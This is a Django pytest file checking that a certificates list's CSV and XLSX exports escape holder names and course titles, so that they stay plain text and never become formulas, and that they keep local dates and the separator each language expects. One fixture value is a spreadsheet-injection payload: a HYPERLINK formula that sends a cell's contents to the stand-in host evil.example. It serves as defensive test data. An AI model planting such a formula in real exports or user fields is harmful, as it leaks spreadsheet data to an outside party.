"""The *Certificates* list's CSV and XLSX: a holder's name is text, never a
formula; dates are dates in Ljubljana's time; CSV as each language reads it."""

import csv
import datetime
import io

import pytest
from django.contrib.auth.models import Group
from django.urls import reverse
from openpyxl import load_workbook

from accounts.factories import UserFactory
from certificates.factories import certificate_for, completed_enrolment
from certificates.models import Certificate
from courses.roles import COURSE_MANAGERS

pytestmark = pytest.mark.django_db

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&B3,"Nina")'
SUMMER = datetime.datetime(2026, 7, 1, 10, 5, tzinfo=datetime.UTC)  # 12:05 local


@pytest.fixture
def manager_client(client, catalogue):
    enrolment = completed_enrolment(
        parent=catalogue,
        user=UserFactory(full_name=HOSTILE_NAME),
        title="@SUM(1+1) pricing",
    )
    Certificate.objects.filter(pk=certificate_for(enrolment).pk).update(
        status=Certificate.Status.ISSUED, issued_at=SUMMER
    )
    manager = UserFactory(is_staff=True)
    manager.groups.add(Group.objects.get(name=COURSE_MANAGERS))
    client.force_login(manager)
    return client


def test_certificates_xlsx_names_its_sheet_and_holds_text_and_dates(manager_client):
    manager_client.defaults["HTTP_ACCEPT_LANGUAGE"] = "en"
    export = manager_client.get(reverse("certificates_admin"), {"export": "xlsx"})
    workbook = load_workbook(io.BytesIO(export.content))
    assert workbook.sheetnames == ["Certificates"]
    headings, row = (list(r) for r in workbook.active.iter_rows())
    names = [cell.value for cell in headings]
    holder, course = row[0], row[1]
    assert holder.data_type == "s" and holder.value == "'" + HOSTILE_NAME
    assert course.data_type == "s" and course.value == "'@SUM(1+1) pricing"
    issued = row[names.index("Issued at")]
    assert issued.is_date and issued.value == datetime.datetime(2026, 7, 1, 12, 5)


def test_certificates_csv_has_a_bom_and_the_languages_separator(manager_client):
    url = reverse("certificates_admin")
    manager_client.defaults["HTTP_ACCEPT_LANGUAGE"] = "en"
    text = b"".join(
        manager_client.get(url, {"export": "csv"}).streaming_content
    ).decode("utf-8")
    assert text.startswith("\ufeff")
    headings, row = csv.reader(io.StringIO(text[1:]))
    assert row[0] == "'" + HOSTILE_NAME and row[1] == "'@SUM(1+1) pricing"
    assert row[headings.index("Issued at")] == "2026-07-01 12:05"

    manager_client.defaults["HTTP_ACCEPT_LANGUAGE"] = "sl"
    text = b"".join(
        manager_client.get(url, {"export": "csv"}).streaming_content
    ).decode("utf-8")
    assert text.startswith("\ufeff")
    _headings, row = csv.reader(io.StringIO(text[1:]), delimiter=";")
    assert row[0] == "'" + HOSTILE_NAME
